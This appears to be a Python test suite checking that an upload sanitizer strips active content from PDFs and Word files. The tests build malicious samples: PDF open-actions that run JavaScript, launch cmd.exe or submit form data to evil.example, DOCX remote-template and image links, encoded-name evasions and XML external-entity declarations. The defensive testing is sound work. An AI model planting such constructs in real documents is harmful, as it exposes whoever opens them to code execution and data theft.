import io
import time
import zipfile
import zlib

import pypdf
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from odoo.tests import BaseCase, tagged

from .. import active, papers
from . import upload_samples as samples

MEGABYTE = 1024 * 1024
OFFICE = "application/vnd.openxmlformats-officedocument.x"
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def pdf_that_acts(kind, **more):
    """A PDF that does something by itself when it is opened."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(100, 100)
    action = {NameObject("/S"): NameObject(kind), NameObject("/Type"): NameObject("/Action")}
    action |= {NameObject(f"/{name}"): TextStringObject(text) for name, text in more.items()}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


@tagged("post_install", "-at_install")
class TestPapersActive(BaseCase):
    """Documents of strangers do nothing by themselves on the machine of whoever opens them."""

    def test_pdf(self):
        """No script, no program, no sending: the kind of the action is none any more."""
        for kind, more in (
            ("/JavaScript", {"JS": "app.alert(1)"}),
            ("/Launch", {"F": "cmd.exe"}),
            ("/SubmitForm", {"F": "https://evil.example/"}),
            ("/ImportData", {"F": "x.fdf"}),
        ):
            with self.subTest(kind):
                acts = pdf_that_acts(kind, **more)
                self.assertIn(kind, str(pypdf.PdfReader(io.BytesIO(acts)).root_object))
                kept = papers.nameless(acts, papers.PDF)
                root = pypdf.PdfReader(io.BytesIO(kept)).root_object
                self.assertNotIn(kind, str(root))
                self.assertEqual(len(kept), len(acts))
                hidden = acts.replace(
                    kind.encode(), b"/#%02x%s" % (ord(kind[1]), kind[2:].encode())
                )
                self.assertNotEqual(hidden, acts)
                root = pypdf.PdfReader(io.BytesIO(papers.nameless(hidden, papers.PDF))).root_object
                self.assertNotIn(kind, str(root), "a name may be written in numbers")

    def test_pdf_within_a_packed_stream(self):
        packed = zlib.compress(b"2 0 <</S/JavaScript/JS(x)>>")
        head = b"1 0 obj<</Type/ObjStm/N 1/First 4/Length %d>>stream\n" % len(packed)
        kept = papers.nameless(samples.PDF + head + packed + b"\nendstream", papers.PDF)
        start = kept.index(b"stream\n") + len(b"stream\n")
        self.assertNotIn(b"/JavaScript", zlib.decompressobj().decompress(kept[start:]))

    def test_words_about_it_stay(self):
        """What a document says in its text is no action, and what it links to is clicked."""
        text = b"BT (/JavaScripts are fun) Tj ET /URI /GoTo"
        self.assertEqual(papers.nameless(samples.PDF + text, papers.PDF)[-len(text) :], text)

    def test_office(self):
        """Nothing is fetched when it is opened: no template, picture or book from elsewhere."""
        links = "".join(
            f'<Relationship Id="r{number}" Type="{_RELATION}{kind}" TargetMode="{mode}"'
            f' Target="{target}"/>'
            for number, (kind, target, mode) in enumerate(
                (
                    ("attachedTemplate", "https://evil.example/t.dotm", "External"),
                    ("image", "file://evil.example/x.png", "External"),
                    ("hyperlink", "https://water.example/", "External"),
                    ("styles", "styles.xml", "Internal"),
                )
            )
        )
        written = io.BytesIO(samples.DOCX)
        with zipfile.ZipFile(written, "a") as book:
            for name in ("word/_rels/settings.xml.rels", "word/_rels/other.xml.RELS"):
                book.writestr(name, f"<Relationships>{links}</Relationships>")
        kept = papers.nameless(written.getvalue(), OFFICE)
        with zipfile.ZipFile(io.BytesIO(kept)) as book:
            for name in ("word/_rels/settings.xml.rels", "word/_rels/other.xml.RELS"):
                text = book.read(name).decode()
                self.assertNotIn("evil.example", text)
                self.assertIn("https://water.example/", text)
                self.assertIn('Target="styles.xml"', text)

    def test_office_in_disguise(self):
        """Signs written as numbers are read; an alphabet that hides them all is refused."""
        relation = (
            f"<x:Relationship Type='{_RELATION}attachedTemplate' TargetMode = 'Ext&#101;rnal'"
            " Target = 'https://evil.example/t.dotm'/>"
        )
        self.assertNotIn(b"evil", active.at_home(relation.encode()))
        written = io.BytesIO(samples.DOCX)
        with zipfile.ZipFile(written, "a") as book:
            book.writestr("word/_rels/settings.xml.rels", relation.encode("utf-16"))
        with self.assertRaises(papers.PaperError):
            papers.nameless(written.getvalue(), OFFICE)

    def test_office_with_a_grammar_of_its_own(self):
        """Nothing is fetched by it, and nothing multiplied: no program for offices writes one."""
        for words in ('SYSTEM "https://evil.example/x.dtd"', '[<!ENTITY a "aaaa">]'):
            written = io.BytesIO(samples.DOCX)
            with zipfile.ZipFile(written, "a") as book:
                book.writestr("word/comments.xml", f"<?xml version='1.0'?><!DOCTYPE w {words}><w/>")
            with self.subTest(words), self.assertRaises(papers.PaperError):
                papers.nameless(written.getvalue(), OFFICE)

    def test_it_costs_little(self):
        for piece in (b"/Java", b"/#4a", b"/#", b"<Relationship ", b'Target="', b"/JavaScript"):
            began = time.process_time()
            papers.nameless(samples.PDF + piece * (2 * MEGABYTE // len(piece)), papers.PDF)
            self.assertLess(time.process_time() - began, 4, piece)
            began = time.process_time()
            active.at_home(piece * (2 * MEGABYTE // len(piece)))
            self.assertLess(time.process_time() - began, 4, piece)
